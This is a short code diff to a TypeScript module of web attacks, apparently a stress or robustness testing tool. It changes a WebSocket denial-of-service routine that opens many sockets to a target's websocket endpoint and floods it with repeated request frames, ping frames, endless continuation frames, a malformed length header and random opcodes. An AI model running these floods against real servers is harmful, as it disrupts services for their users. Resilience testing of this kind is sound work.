@@ -184,11 +184,13 @@ export const webAttacks: Readonly<Record<string, Attack>> = {
     };
     const ask = masked(0x81, Buffer.from('{"invoke":{"invokeID":1,"operationID":1}}'));
     const kinds = [
-      Buffer.concat(Array.from({ length: 5000 }, () => ask)),
-      Buffer.concat(Array.from({ length: 5000 }, () => masked(0x89, Buffer.alloc(125)))),
+      Buffer.concat(Array.from({ length: scale.some(5000) }, () => ask)),
+      Buffer.concat(
+        Array.from({ length: scale.some(5000) }, () => masked(0x89, Buffer.alloc(125))),
+      ),
       Buffer.concat([
         masked(0x01, Buffer.alloc(1)),
-        ...Array.from({ length: 50_000 }, () => masked(0x00, Buffer.alloc(1))),
+        ...Array.from({ length: scale.some(50_000) }, () => masked(0x00, Buffer.alloc(1))),
       ]),
       Buffer.concat([
         Buffer.from([0x82, 0xff, 0, 0, 0, 0, 0x7f, 0xff, 0xff, 0xff, 0, 0, 0, 0]),
@@ -198,7 +200,7 @@ export const webAttacks: Readonly<Record<string, Attack>> = {
       masked(0xff, randomBytes(100)),
     ];
     await whileItLasts(scale, async () => {
-      const crowd = await sockets.crowd(target.http, scale.some(30), () =>
+      const crowd = await sockets.crowd(target.http, Math.max(kinds.length, scale.some(30)), () =>
         head(`GET /ws/client/websocket?x-ucsessionid=${id} HTTP/1.1`, ...webSocketLines),
       );
       await delay(100);
